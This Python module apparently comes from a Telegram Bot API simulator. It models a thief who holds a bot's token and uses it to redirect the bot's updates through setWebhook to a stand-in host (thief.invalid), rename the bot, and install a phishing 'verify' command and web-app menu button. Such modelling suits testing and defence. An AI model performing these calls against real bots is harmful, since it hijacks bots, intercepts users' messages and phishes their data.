"""Somebody who has the bot's token and uses it: every request is one that the Bot API lets anyone make who has it."""

import json
from collections.abc import Mapping
from typing import Any

from simulator.engine import Engine
from simulator.faults import Reply
from simulator.requests import JSON

ADDRESS = "https://thief.invalid/updates"
NAME = "Avisa Official"
COMMANDS = [{"command": "verify", "description": "Confirm your address to go on"}]
PAGE = {"type": "web_app", "text": "Open", "web_app": {"url": "https://thief.invalid/"}}


class Thief:
    """One thief."""

    def __init__(self, engine: Engine) -> None:
        """Of this engine's token."""
        self._engine = engine

    async def _ask(self, method: str, fields: Mapping[str, Any]) -> Reply:
        return await self._engine.serve(method, JSON, json.dumps(fields).encode())

    async def redirects(self) -> None:
        """Has updates delivered to an address of theirs."""
        await self._ask("setWebhook", {"url": ADDRESS})

    async def renames(self) -> None:
        """Gives the bot another name."""
        await self._ask("setMyName", {"name": NAME})

    async def offers(self) -> None:
        """Puts commands and a page of theirs in place of the bot's."""
        await self._ask("setMyCommands", {"commands": COMMANDS})
        await self._ask("setMyCommands", {"commands": COMMANDS, "scope": {"type": "all_private_chats"}})
        await self._ask("setChatMenuButton", {"menu_button": PAGE})

    async def does_all(self) -> None:
        """All of it."""
        await self.redirects()
        await self.renames()
        await self.offers()
